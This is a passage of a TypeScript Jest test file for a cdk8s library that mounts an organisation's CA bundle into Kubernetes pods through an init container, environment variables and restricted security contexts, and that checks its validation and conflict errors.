import * as fs from 'node:fs';
import { ApiObject, Chart, JsonPatch, Testing } from 'cdk8s';
import * as kplus from 'cdk8s-plus-28';
import * as YAML from 'yaml';
import { BundleSource, CaVariables, JavaTrust, MergedCaInitContainer, OnInvalidBundle, OrgCaBundle, PodWiringOptions, WiringMode } from '../../src';
import { JAVA_CACERTS_CANDIDATES, MERGE_SCRIPT, SYSTEM_BUNDLE_CANDIDATES } from '../../src/pod/init-scripts';
import { propsOf } from '../util/api';
import { makeCa } from '../util/certs';
import { KIND_FORMS, envOf, makeWorkload, manifest, podOf, podSpec, restrictedViolations, rotationOf, workloadsOf, chartWithBundle } from '../util/fixtures';
import { expectAllValid } from '../util/schema';
import { takeWarnings } from '../util/warnings';

const ca = makeCa('wiring-ca');

const setup = (namespace?: string, bundleProps: any = {}) => chartWithBundle(ca.certPem, namespace, bundleProps);

const yamlOf = (objs: any[]) => objs.map(o => YAML.stringify(o)).join('---\n');

describe.each(KIND_FORMS)('%s (%s)', (kind, form) => {
  test('wired: init container first, volumes, variables, annotation, schema-valid', () => {
    const { chart, bundle } = setup('apps');
    const w = makeWorkload(chart, kind, form);
    MergedCaInitContainer.addTo(w, bundle);
    const objs = Testing.synth(chart);
    const [obj] = workloadsOf(objs);
    const pod = podOf(obj);

    expect(pod.initContainers[0].name).toBe('merge-ca-bundle');
    const init = pod.initContainers[0];
    expect(init.image).toBe('registry.example/app:1.0');
    expect(init.imagePullPolicy).toBeUndefined(); // the image's own policy, as for the app container
    // the script is the init container's own command: nothing it runs comes from a namespace object
    expect(init.command).toEqual(['/bin/sh', '-c', MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem']);
    expect(init.volumeMounts).toEqual([{ name: 'org-ca', mountPath: '/var/run/org-ca' }, { name: 'org-ca-merged', mountPath: '/etc/org-ca' }]);
    // Pod Security Standards "restricted"; runAsNonRoot comes from the pod where it sets it (cdk8s-plus does)
    expect(init.securityContext).toEqual({
      allowPrivilegeEscalation: false,
      capabilities: { drop: ['ALL'] },
      readOnlyRootFilesystem: true,
      ...(pod.securityContext?.runAsNonRoot === true ? {} : { runAsNonRoot: true }),
      runAsUser: 65534,
      seccompProfile: { type: 'RuntimeDefault' },
    });
    expect(restrictedViolations(pod)).toEqual([]);
    // limits only: the requests default to them (any LimitRange ratio holds)
    expect(init.resources).toEqual({ limits: { cpu: '100m', memory: '64Mi' } });

    expect(pod.volumes).toEqual(expect.arrayContaining([
      { name: 'org-ca', configMap: { name: 'org-ca-bundle', optional: true } },
      { name: 'org-ca-merged', emptyDir: {} },
    ]));
    // the variables are env entries of the container, after its own: nothing comes from envFrom
    const app = pod.containers.find((c: any) => c.name === 'app');
    expect(app.env).toEqual([{ name: 'KEEP', value: 'me' }, ...CaVariables.DEFAULTS.map(name => ({ name, value: '/etc/org-ca/bundle.pem' }))]);
    expect(app.envFrom).toBeUndefined();
    // the bundle ConfigMap is the only namespace object the pod reads, and the library adds none
    expect(objs.filter(o => o.kind === 'ConfigMap')).toEqual([]);
    expect(app.volumeMounts).toContainEqual({ name: 'org-ca-merged', mountPath: '/etc/org-ca', readOnly: true });
    expect(rotationOf(obj)).toBe(bundle.sha256.slice(0, 16));
    expectAllValid(objs);
  });

  test('idempotent: wiring twice gives the same YAML as once', () => {
    const once = setup();
    MergedCaInitContainer.addTo(makeWorkload(once.chart, kind, form), once.bundle);
    const twice = setup();
    const w = makeWorkload(twice.chart, kind, form);
    MergedCaInitContainer.addTo(w, twice.bundle);
    MergedCaInitContainer.addTo(w, twice.bundle);
    expect(yamlOf(Testing.synth(twice.chart))).toEqual(yamlOf(Testing.synth(once.chart)));
  });

  test('disabled: byte-for-byte unchanged', () => {
    const plain = setup();
    makeWorkload(plain.chart, kind, form);
    const off = setup();
    MergedCaInitContainer.addTo(makeWorkload(off.chart, kind, form), off.bundle, { enabled: false });
    expect(yamlOf(Testing.synth(off.chart))).toEqual(yamlOf(Testing.synth(plain.chart)));
  });
});

describe('MergedCaInitContainer rules', () => {
  test('the CronJob pod template is at /spec/jobTemplate/spec/template', () => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(new ApiObject(chart, 'cj', manifest('CronJob', 'cj')), bundle);
    const [cj] = Testing.synth(chart).filter(o => o.kind === 'CronJob');
    expect(cj.spec.template).toBeUndefined();
    expect(cj.spec.jobTemplate.spec.template.spec.initContainers[0].name).toBe('merge-ca-bundle');
  });

  test('existing init containers keep their order after the merge and get the variables', () => {
    const { chart, bundle } = setup();
    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'd', podSpec({
      initContainers: [{ name: 'pull', image: 'puller' }, { name: 'migrate', image: 'm', env: [{ name: 'A', value: '1' }] }],
      volumes: [{ name: 'data', emptyDir: {} }],
    })));
    MergedCaInitContainer.addTo(obj, bundle);
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(pod.initContainers.map((c: any) => c.name)).toEqual(['merge-ca-bundle', 'pull', 'migrate']);
    expect(pod.initContainers[2].env[0]).toEqual({ name: 'A', value: '1' });
    expect(envOf(pod.initContainers[2], objs)).toMatchObject({ A: '1', SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
    expect(pod.volumes.map((v: any) => v.name)).toEqual(['data', 'org-ca', 'org-ca-merged']);
  });

  test('containers added after the call are wired (synth-time wiring)', () => {
    const { chart, bundle } = setup();
    const d = new kplus.Deployment(chart, 'd', { containers: [{ name: 'app', image: 'a' }] });
    MergedCaInitContainer.addTo(d, bundle);
    d.addContainer({ name: 'sidecar', image: 'b' });
    d.addInitContainer({ name: 'later-init', image: 'c' });
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(envOf(pod.containers.find((c: any) => c.name === 'sidecar'), objs)).toMatchObject({ GIT_SSL_CAINFO: '/etc/org-ca/bundle.pem' });
    expect(pod.initContainers.map((c: any) => c.name)).toEqual(['merge-ca-bundle', 'later-init']);
  });

  test('a variable already set to another value is an error naming workload, container and variable', () => {
    const { chart, bundle } = setup('apps');
    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec({ containers: [{ name: 'app', image: 'a', env: [{ name: 'SSL_CERT_FILE', value: '/mine.pem' }] }] }), 'apps'));
    MergedCaInitContainer.addTo(obj, bundle);
    expect(() => Testing.synth(chart)).toThrow('Deployment "apps/web" at /spec/template container "app" already sets SSL_CERT_FILE to "/mine.pem", not "/etc/org-ca/bundle.pem"; remove it, or pass skipVariables: ["SSL_CERT_FILE"] to keep it');
  });

  test('skipVariables keeps the container\'s own value and still sets the others', () => {
    const { chart, bundle } = setup();
    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec({ containers: [{ name: 'app', image: 'a', env: [{ name: 'SSL_CERT_FILE', value: '/mine.pem' }] }] })));
    MergedCaInitContainer.addTo(obj, bundle, { skipVariables: ['SSL_CERT_FILE'] });
    const objs = Testing.synth(chart);
    const app = podOf(objs.find(o => o.kind === 'Deployment')).containers[0];
    // the container's own value is kept, the others are added after it
    expect(app.env.map((e: any) => [e.name, e.value])).toEqual([['SSL_CERT_FILE', '/mine.pem'], ...CaVariables.DEFAULTS.filter(v => v !== 'SSL_CERT_FILE').map(v => [v, '/etc/org-ca/bundle.pem'])]);
    expect(envOf(app, objs)).toMatchObject({ SSL_CERT_FILE: '/mine.pem', GIT_SSL_CAINFO: '/etc/org-ca/bundle.pem' });
  });

  test('App.synth refuses before writing any file', () => {
    const { app, chart, bundle } = setup();
    new kplus.Deployment(new Chart(app, 'first'), 'ok', { containers: [{ image: 'a' }] });
    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec({ containers: [{ name: 'app', image: 'a', env: [{ name: 'GIT_SSL_CAINFO', valueFrom: { configMapKeyRef: { name: 'x', key: 'y' } } }] }] })));
    MergedCaInitContainer.addTo(obj, bundle);
    expect(() => app.synth()).toThrow(/already sets GIT_SSL_CAINFO to a valueFrom reference/);
    expect(fs.readdirSync(app.outdir)).toEqual([]);
  });

  test('App.synth reuses the validated JSON for the render, and never serves it stale', async () => {
    const { app, chart, bundle } = setup();
    const d = new kplus.Deployment(chart, 'd', { containers: [{ name: 'app', image: 'a' }] });
    MergedCaInitContainer.addTo(d, bundle);
    const direct = YAML.stringify(Testing.synth(chart));
    app.synth();
    const written = fs.readFileSync(`${app.outdir}/test.k8s.yaml`, 'utf8');
    expect(YAML.parseAllDocuments(written).map(x => x.toJS())).toEqual(YAML.parse(direct));
  });

  test('a validation whose render never comes (synth failed elsewhere) leaves nothing stale', async () => {
    const { app, chart, bundle } = setup();
    const good = new kplus.Deployment(chart, 'good', { containers: [{ name: 'app', image: 'a' }] });
    MergedCaInitContainer.addTo(good, bundle);
    const bad = new ApiObject(chart, 'bad', manifest('Deployment', 'bad', podSpec({ containers: [{ name: 'app', image: 'a', env: [{ name: 'SSL_CERT_FILE', value: '/x' }] }] })));
    MergedCaInitContainer.addTo(bad, bundle);
    expect(() => app.synth()).toThrow(/already sets SSL_CERT_FILE/); // "good" was validated, never rendered
    await Promise.resolve();
    good.addContainer({ name: 'later', image: 'b' });
    const pod = podOf(ApiObject.of(good).toJson());
    expect(pod.containers.map((c: any) => c.name)).toEqual(['app', 'later']);
  });

  test.each([
    ['volume', { volumes: [{ name: 'org-ca', emptyDir: {} }] }, /a volume named "org-ca" already exists and is not the org CA volume; rename it or set sourceVolumeName/],
    ['init container', { initContainers: [{ name: 'merge-ca-bundle', image: 'other' }] }, /an init container named "merge-ca-bundle" already exists and is not the org CA merge/],
    ['mount path', { containers: [{ name: 'app', image: 'a', volumeMounts: [{ name: 'x', mountPath: '/etc/org-ca' }] }], volumes: [{ name: 'x', emptyDir: {} }] }, /container "app" already mounts volume "x" at \/etc\/org-ca; set mergedDir/],
  ])('name collision with an existing %s is an error, not a rename', (_what, spec, err) => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec(spec))), bundle);
    expect(() => Testing.synth(chart)).toThrow(err);
  });

  test('a pod without containers is left alone', () => {
    const { chart, bundle } = setup();
    const m = manifest('Deployment', 'empty', { containers: [] });
    MergedCaInitContainer.addTo(new ApiObject(chart, 'd', m), bundle);
    expect(Testing.synth(chart).find(o => o.kind === 'Deployment')).toEqual(new ApiObject(new Chart(Testing.app(), 'x'), 'd', m).toJson());
  });

  test('namespace decides the ConfigMap: a plain ConfigMap there wins over the projection', () => {
    const { chart, bundle } = setup(undefined, { trustManager: {}, configMaps: [{ namespaces: ['argocd'], name: 'argocd-org-ca' }] });
    MergedCaInitContainer.addTo(new ApiObject(chart, 'a', manifest('Deployment', 'a', podSpec(), 'argocd')), bundle);
    MergedCaInitContainer.addTo(new ApiObject(chart, 'b', manifest('Deployment', 'b', podSpec(), 'other')), bundle);
    const ds = Testing.synth(chart).filter(o => o.kind === 'Deployment');
    expect(podOf(ds[0]).volumes[0].configMap).toEqual({ name: 'argocd-org-ca', optional: true });
    // the merge reads the file its key names: ca.crt is not the script's default, so it is passed
    expect(podOf(ds[0]).initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/ca.crt', '/etc/org-ca/bundle.pem']);
    expect(podOf(ds[1]).volumes[0].configMap).toEqual({ name: 'org-ca-bundle', optional: true });
    expect(podOf(ds[1]).initContainers[0].command.slice(-2)).toEqual(['/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem']);
  });

  test('all options', () => {
    const options: Required<PodWiringOptions> = {
      enabled: true,
      initContainerName: 'ca-merge',
      image: 'busybox:1.36',
      mergedDir: '/shared',
      mergedFileName: 'combined-ca.crt',
      variables: ['SSL_CERT_FILE'],
      extraVariables: CaVariables.KNOWN_EXTRAS,
      skipVariables: [],
      optional: false,
      configMap: { name: 'custom', key: 'k.pem', projectedByTrustManager: false },
      sourceVolumeName: 'src',
      mergedVolumeName: 'dst',
      runAsUser: 1000,
      openShift: false,
      mode: WiringMode.MERGE,
      source: BundleSource.CONFIG_MAP,
      onInvalidBundle: OnInvalidBundle.DEGRADE,
      containers: ['app'],
      java: JavaTrust.keytoolImport(),
      rotationAnnotation: false,
      podTemplatePaths: ['/spec/template'],
      systemBundleOverlay: true,
    };
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec({ containers: [{ name: 'app', image: 'a' }, { name: 'other', image: 'b' }] }))), bundle, options);
    const objs = Testing.synth(chart);
    const d = objs.find(o => o.kind === 'Deployment');
    const pod = podOf(d);
    expect(pod.initContainers.map((c: any) => [c.name, c.image, c.securityContext.runAsUser])).toEqual([['ca-merge', 'busybox:1.36', 1000], ['ca-merge-java', 'busybox:1.36', 1000]]);
    expect(pod.initContainers[0].command).toEqual(['/bin/sh', '-c', MERGE_SCRIPT, 'merge-ca-bundle', '/var/run/org-ca/k.pem', '/shared/combined-ca.crt']);
    expect(pod.containers[0].envFrom).toBeUndefined();
    expect(pod.volumes).toEqual([{ name: 'src', configMap: { name: 'custom' } }, { name: 'dst', emptyDir: {} }]);
    expect(pod.containers[0].env).toEqual([
      ...['SSL_CERT_FILE', ...CaVariables.KNOWN_EXTRAS].map(name => ({ name, value: '/shared/combined-ca.crt' })),
      { name: 'JAVA_TOOL_OPTIONS', value: '-Djavax.net.ssl.trustStore=/shared/java-cacerts -Djavax.net.ssl.trustStorePassword=changeit' },
    ]);
    expect(pod.containers[1].env).toBeUndefined();
    // the merged file over every standard system bundle path, the JVM store over every cacerts path, in the wired container only
    expect(pod.containers[0].volumeMounts.slice(1)).toEqual([
      ...SYSTEM_BUNDLE_CANDIDATES.map(mountPath => ({ mountPath, name: 'dst', subPath: 'combined-ca.crt', readOnly: true })),
      ...JAVA_CACERTS_CANDIDATES.map(mountPath => ({ mountPath, name: 'dst', subPath: 'java-cacerts', readOnly: true })),
    ]);
    expect(pod.containers[1].volumeMounts).toBeUndefined();
    expect(pod.initContainers[0].volumeMounts.map((m: any) => m.mountPath)).toEqual(['/var/run/org-ca', '/shared']);
    expect(d.spec.template.metadata.annotations?.[MergedCaInitContainer.ROTATION_ANNOTATION]).toBeUndefined();
    expectAllValid(objs);
    // every option is exercised here: adding one without coverage breaks this test
    const declared = Object.keys(options).sort();
    expect(declared).toEqual(propsOf('PodWiringOptions'));
  });

  test.each([
    [{ initContainerName: 'Bad_Name' }, /initContainerName "Bad_Name" is not a valid Kubernetes name/],
    [{ mergedDir: 'relative/dir' }, /mergedDir "relative\/dir" must be a normalised absolute directory/],
    [{ mergedDir: '/etc/ssl/certs' }, /mergedDir "\/etc\/ssl\/certs" would hide what the image or Kubernetes keeps there/],
    [{ mergedFileName: 'a/b' }, /mergedFileName "a\/b" must be a plain file name/],
    [{ runAsUser: 0 }, /runAsUser 0 must be a positive UID/],
    [{ variables: ['NOT VALID'] }, /"NOT VALID" is not a valid environment variable name/],
    [{ variables: ['SSL_CERT_FILE'], extraVariables: ['SSL_CERT_FILE'] }, /"SSL_CERT_FILE" is listed twice/],
    [{ variables: [] }, /variables is empty and java is not set/],
    [{ sourceVolumeName: 'x', mergedVolumeName: 'x' }, /sourceVolumeName and mergedVolumeName are both "x"/],
    [{ podTemplatePaths: ['spec/template'] }, /"spec\/template" is not a JSON pointer/],
  ])('bad option %o', (opts, err) => {
    const { bundle } = setup();
    expect(() => new MergedCaInitContainer(bundle, opts as PodWiringOptions)).toThrow(err);
  });

  test('unknown kind needs podTemplatePaths; with them it is wired', () => {
    const { chart, bundle } = setup();
    const rollout = { apiVersion: 'argoproj.io/v1alpha1', kind: 'Rollout', metadata: { name: 'r' }, spec: { template: { metadata: {}, spec: podSpec() } } };
    expect(() => MergedCaInitContainer.addTo(new ApiObject(chart, 'r', rollout), bundle)).toThrow(/Rollout "r" \(argoproj.io\/v1alpha1\) has no known pod template: pass podTemplatePaths/);
    MergedCaInitContainer.addTo(new ApiObject(chart, 'r2', { ...rollout, metadata: { name: 'r2' } }), bundle, { podTemplatePaths: ['/spec/template'] });
    const r2 = Testing.synth(chart).find(o => o.metadata.name === 'r2');
    expect(r2.spec.template.spec.initContainers[0].name).toBe('merge-ca-bundle');
  });

  test('user patches are applied before the wiring sees the object', () => {
    const { chart, bundle } = setup();
    const obj = new ApiObject(chart, 'd', manifest('Deployment', 'web'));
    obj.addJsonPatch(JsonPatch.add('/spec/template/spec/containers/-', { name: 'patched', image: 'p' }));
    MergedCaInitContainer.addTo(obj, bundle);
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(envOf(pod.containers[1], objs)).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
  });

  test('wireManifest wires plain JSON and leaves the input untouched', () => {
    const { bundle } = setup();
    const m = manifest('Job', 'j');
    const before = JSON.stringify(m);
    const out = new MergedCaInitContainer(bundle).wireManifest(m);
    expect(JSON.stringify(m)).toBe(before);
    expect(podOf(out).initContainers[0].name).toBe('merge-ca-bundle');
  });
});

describe('hostile clusters: OpenShift UIDs and damaged bundles', () => {
  const deployment = (chart: any, spec = podSpec()) => new ApiObject(chart, 'd', manifest('Deployment', 'web', spec));

  test('openShift: no runAsUser/runAsGroup on the init containers; the rest of the restricted profile stays', () => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(deployment(chart), bundle, { openShift: true, java: JavaTrust.keytoolImport() });
    const objs = Testing.synth(chart);
    for (const init of podOf(objs.find(o => o.kind === 'Deployment')).initContainers) {
      expect(init.securityContext).toEqual({
        allowPrivilegeEscalation: false,
        capabilities: { drop: ['ALL'] },
        readOnlyRootFilesystem: true,
        runAsNonRoot: true,
        seccompProfile: { type: 'RuntimeDefault' },
      });
    }
    expectAllValid(objs);
  });

  test('a pod that sets runAsUser keeps it: the init containers inherit instead of overriding', () => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(deployment(chart, podSpec({ securityContext: { runAsUser: 1001, fsGroup: 2000 } })), bundle);
    const init = podOf(Testing.synth(chart).find(o => o.kind === 'Deployment')).initContainers[0];
    expect(init.securityContext.runAsUser).toBeUndefined();
    expect(init.securityContext.runAsGroup).toBeUndefined();
    expect(init.securityContext.runAsNonRoot).toBe(true);
  });

  test('what the pod\'s securityContext sets for every container (runAsNonRoot, seccompProfile RuntimeDefault) is not repeated; the profile holds', () => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(deployment(chart, podSpec({ securityContext: { runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } } })), bundle, { java: JavaTrust.keytoolImport() });
    const pod = podOf(Testing.synth(chart).find(o => o.kind === 'Deployment'));
    for (const init of pod.initContainers) {
      expect(init.securityContext).toEqual({ allowPrivilegeEscalation: false, capabilities: { drop: ['ALL'] }, readOnlyRootFilesystem: true, runAsUser: 65534 });
    }
    expect(restrictedViolations(pod)).toEqual([]);
    // a pod that says otherwise (Localhost profile, or no runAsNonRoot) keeps ours
    const other = setup();
    MergedCaInitContainer.addTo(deployment(other.chart, podSpec({ securityContext: { runAsNonRoot: false, seccompProfile: { type: 'Localhost', localhostProfile: 'p.json' } } })), other.bundle);
    const init = podOf(Testing.synth(other.chart).find(o => o.kind === 'Deployment')).initContainers[0];
    expect(init.securityContext).toMatchObject({ runAsNonRoot: true, seccompProfile: { type: 'RuntimeDefault' } });
  });

  test('runAsUser together with openShift is an error naming the fix', () => {
    const { bundle } = setup();
    expect(() => new MergedCaInitContainer(bundle, { openShift: true, runAsUser: 1000 })).toThrow(/runAsUser 1000 and openShift: true contradict each other: OpenShift assigns the UID; drop runAsUser/);
  });

  test('onInvalidBundle FAIL passes "fail" to the merge and the keytool import; the default passes nothing', () => {
    const { chart, bundle } = setup();
    MergedCaInitContainer.addTo(deployment(chart), bundle, { onInvalidBundle: OnInvalidBundle.FAIL, java: JavaTrust.keytoolImport() });
    const inits = podOf(Testing.synth(chart).find(o => o.kind === 'Deployment')).initContainers;
    expect(inits.map((c: any) => c.command[c.command.length - 1])).toEqual(['fail', 'fail']);
    const plain = setup();
    MergedCaInitContainer.addTo(deployment(plain.chart), plain.bundle);
    expect(podOf(Testing.synth(plain.chart).find(o => o.kind === 'Deployment')).initContainers[0].command.slice(-1)).toEqual(['/etc/org-ca/bundle.pem']);
    expect(inits[0].command.slice(-3)).toEqual(['/var/run/org-ca/ca-certificates.crt', '/etc/org-ca/bundle.pem', 'fail']);
  });
});

describe('strict names, paths and wiring conflicts', () => {
  const deployment = (chart: any, spec = podSpec(), id = 'd') => new ApiObject(chart, id, manifest('Deployment', 'web', spec, 'apps'));

  test.each([
    [{ mergedDir: '/var/run/org-ca/source' }, /mergedDir "\/var\/run\/org-ca\/source" is where the library mounts the bundle ConfigMap/],
    [{ mergedDir: '/var/run/secrets/kubernetes.io/serviceaccount' }, /would hide what the image or Kubernetes keeps there/],
    [{ mergedDir: '/etc/pki/ca-trust/extracted/pem' }, /would hide/],
    [{ mergedDir: '/opt/../etc' }, /without ".."/],
    [{ image: '' }, /image "" is not an image reference/],
    [{ configMap: { name: 'Bad Name', key: 'ca.crt', projectedByTrustManager: false } }, /configMap.name "Bad Name" is not a valid Kubernetes name/],
    [{ configMap: { name: 'ok', key: 'a/b', projectedByTrustManager: false } }, /configMap.key "a\/b" is not a valid ConfigMap key/],
    [{ initContainerName: 'x'.repeat(64) }, /is not a valid Kubernetes name.*at most 63/],
    [{ sourceVolumeName: 's'.repeat(60), java: JavaTrust.trustManagerPkcs12() }, /sourceVolumeName "s{60}" is too long: the library also derives "s{60}-java"/],
  ])('refused: %o', (opts, err) => {
    const { bundle } = setup(undefined, { trustManager: { pkcs12: { key: 'truststore.p12' } } });
    expect(() => new MergedCaInitContainer(bundle, opts as PodWiringOptions)).toThrow(err);
  });

  test('the same workload wired twice with different options: an error naming both and what differs; the same options: once', () => {
    const { chart, bundle } = setup('apps');
    const w = deployment(chart);
    MergedCaInitContainer.addTo(w, bundle, { extraVariables: ['PIP_CERT'] });
    MergedCaInitContainer.addTo(w, bundle, { extraVariables: ['PIP_CERT'] });
    expect(() => MergedCaInitContainer.addTo(w, bundle, { extraVariables: ['AWS_CA_BUNDLE'] }))
      .toThrow(/Deployment "web" \(test\/d\) is wired twice with different options: by MergedCaInitContainer and by MergedCaInitContainer \(they differ in extraVariables\)/);
  });

  test('a writable user mount at the merged directory is an error', () => {
    const { chart, bundle } = setup('apps');
    MergedCaInitContainer.addTo(deployment(chart, podSpec({
      containers: [{ name: 'app', image: 'i', volumeMounts: [{ name: 'org-ca-merged', mountPath: '/etc/org-ca' }] }],
    })), bundle);
    expect(() => Testing.synth(chart)).toThrow(/container "app" mounts "org-ca-merged" at \/etc\/org-ca writable; the org CA wiring mounts it read-only/);
  });

  test('envFrom a ConfigMap of the same synth that sets a CA variable: an error; with skipVariables, theirs is kept and ours not added', () => {
    const { chart, bundle } = setup('apps');
    new kplus.ConfigMap(chart, 'env', { metadata: { name: 'app-env' }, data: { SSL_CERT_FILE: '/etc/mine.pem', OTHER: 'x' } });
    const spec = podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ configMapRef: { name: 'app-env' } }] }] });
    MergedCaInitContainer.addTo(deployment(chart, spec), bundle);
    expect(() => Testing.synth(chart)).toThrow(/container "app" gets SSL_CERT_FILE="\/etc\/mine.pem" from envFrom ConfigMap "app-env", which the variable this wiring adds would silently override/);

    const kept = setup('apps');
    new kplus.ConfigMap(kept.chart, 'env', { metadata: { name: 'app-env' }, data: { SSL_CERT_FILE: '/etc/mine.pem' } });
    MergedCaInitContainer.addTo(deployment(kept.chart, spec), kept.bundle, { skipVariables: ['SSL_CERT_FILE'] });
    const app = podOf(Testing.synth(kept.chart).find(o => o.kind === 'Deployment')).containers[0];
    expect(app.envFrom).toEqual([{ configMapRef: { name: 'app-env' } }]); // ours would override theirs
    expect(app.env.map((e: any) => e.name)).not.toContain('SSL_CERT_FILE');
    expect(app.env.map((e: any) => e.name)).toContain('REQUESTS_CA_BUNDLE');
  });

  test('envFrom a Secret (prefixed) of the same synth is decoded and checked too', () => {
    const { chart, bundle } = setup('apps');
    new ApiObject(chart, 's', { apiVersion: 'v1', kind: 'Secret', metadata: { name: 'creds' }, data: { BUNDLE: Buffer.from('/x.pem').toString('base64') } });
    MergedCaInitContainer.addTo(deployment(chart, podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ prefix: 'REQUESTS_CA_', secretRef: { name: 'creds' } }] }] })), bundle);
    // a Secret's value is never printed: the message names the variable and the Secret
    expect(() => Testing.synth(chart)).toThrow(/gets REQUESTS_CA_BUNDLE \(value not shown\) from envFrom Secret "creds"/);
    expect(() => Testing.synth(chart)).not.toThrow(/x\.pem/);
  });

  test('envFrom a ConfigMap the synth does not contain: a warning naming the container', () => {
    takeWarnings();
    const { chart, bundle } = setup('apps');
    MergedCaInitContainer.addTo(deployment(chart, podSpec({ containers: [{ name: 'side', image: 'i', envFrom: [{ configMapRef: { name: 'elsewhere' } }] }] })), bundle);
    Testing.synth(chart);
    expect(takeWarnings().join('\n')).toMatch(/container "side" takes envFrom ConfigMap "elsewhere", which is not in this synth: if it sets one of SSL_CERT_FILE, REQUESTS_CA_BUNDLE/);
  });

  test('skipVariables on a variable another envFrom source sets: that container keeps theirs, the others get ours', () => {
    const { chart, bundle } = setup('apps');
    new kplus.ConfigMap(chart, 'env', { metadata: { name: 'app-env' }, data: { SSL_CERT_FILE: '/etc/mine.pem' } });
    const spec = podSpec({ containers: [{ name: 'app', image: 'i', envFrom: [{ configMapRef: { name: 'app-env' } }] }, { name: 'side', image: 'i' }] });
    MergedCaInitContainer.addTo(deployment(chart, spec), bundle, { skipVariables: ['SSL_CERT_FILE'] });
    const objs = Testing.synth(chart);
    const [app, side] = podOf(objs.find(o => o.kind === 'Deployment')).containers;
    expect(app.envFrom).toEqual([{ configMapRef: { name: 'app-env' } }]);
    expect(envOf(app, objs, 'apps')).toEqual({ ...Object.fromEntries(CaVariables.DEFAULTS.map(v => [v, '/etc/org-ca/bundle.pem'])), SSL_CERT_FILE: '/etc/mine.pem' });
    expect(app.env.map((e: any) => e.name)).not.toContain('SSL_CERT_FILE');
    expect(envOf(side, objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
  });

  test('JAVA_TOOL_OPTIONS extends the container\'s own; the other variables follow it', () => {
    const { chart, bundle } = setup('apps');
    MergedCaInitContainer.addTo(deployment(chart, podSpec({ containers: [{ name: 'app', image: 'i', env: [{ name: 'JAVA_TOOL_OPTIONS', value: '-Xmx1g' }] }] })), bundle, { java: JavaTrust.keytoolImport({ storePassword: 'changeit' }) });
    const objs = Testing.synth(chart);
    const c = podOf(objs.find(o => o.kind === 'Deployment')).containers[0];
    expect(c.env.map((e: any) => e.name)).toEqual(['JAVA_TOOL_OPTIONS', ...CaVariables.DEFAULTS]);
    expect(c.env[0].value).toMatch(/^-Xmx1g -Djavax.net.ssl.trustStore=/);
    expect(envOf(c, objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
  });

  test('wireManifest: the manifest is self-contained (the script and the variables in its pod spec)', () => {
    const { bundle } = setup('apps');
    const w = new MergedCaInitContainer(bundle);
    const out = w.wireManifest(manifest('Deployment', 'web', podSpec(), 'apps'));
    expect(envOf(podOf(out).containers[0])).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem', KEEP: 'me' });
    expect(podOf(out).initContainers[0].command.slice(0, 3)).toEqual(['/bin/sh', '-c', MERGE_SCRIPT]);
    expectAllValid([out]);
  });
});

describe('distribution modes: direct mount and ClusterTrustBundle', () => {
  const ctb137 = { clusterTrustBundle: { kubernetesVersion: '1.37' } };
  const deployment = (chart: any) => new ApiObject(chart, 'd', manifest('Deployment', 'web', podSpec(), 'apps'));

  test('direct: no init container; the projected bundle (useDefaultCAs) mounted non-optional at mergedDir; variables point at it', () => {
    const { chart, bundle } = setup('apps', { trustManager: { useDefaultCAs: true } });
    MergedCaInitContainer.addTo(deployment(chart), bundle, { mode: WiringMode.DIRECT });
    const objs = Testing.synth(chart);
    const pod = podOf(objs.find(o => o.kind === 'Deployment'));
    expect(pod.initContainers).toBeUndefined();
    // non-optional is the default, so it is not written; a ConfigMap volume is always read-only
    expect(pod.volumes).toEqual([{ name: 'org-ca', configMap: { name: 'org-ca-bundle', items: [{ key: 'ca-certificates.crt', path: 'bundle.pem' }] } }]);
    expect(pod.containers[0].volumeMounts).toEqual([{ name: 'org-ca', mountPath: '/etc/org-ca' }]);
    expect(objs.filter(o => o.kind === 'ConfigMap' && o.metadata.name.startsWith('org-ca-scripts'))).toEqual([]);
    expect(envOf(pod.containers[0], objs, 'apps')).toMatchObject({ SSL_CERT_FILE: '/etc/org-ca/bundle.pem' });
    expectAllValid(objs);
  });

  test.each([
    ['a Bundle without useDefaultCAs', {}, {}, /must then hold the public roots: set trustManager.useDefaultCAs: true/],
    ['optional: true', { trustManager: { useDefaultCAs: true } }, { optional: true }, /would start pods whose SSL_CERT_FILE points at nothing/],
    ['keytool import', { trustManager: { useDefaultCAs: true } }, { java: JavaTrust.keytoolImport() }, /has no init container, so JavaTrust.keytoolImport\(\) cannot run/],
    ['a ClusterTrustBundle source', ctb137, { source: BundleSource.CLUSTER_TRUST_BUNDLE }, /holds the org CA only, not the public roots/],
  ])('direct with %s is refused, naming the fix', (_n, bundleProps, opts, err) => {
    const { bundle } = setup('apps', bundleProps);
    expect(() => new MergedCaInitContainer(bundle, { mode: WiringMode.DIRECT, ...opts })).toThrow(err);
  });

  test('direct where only a plain ConfigMap (no public roots) reaches the namespace: an error at synth', () => {
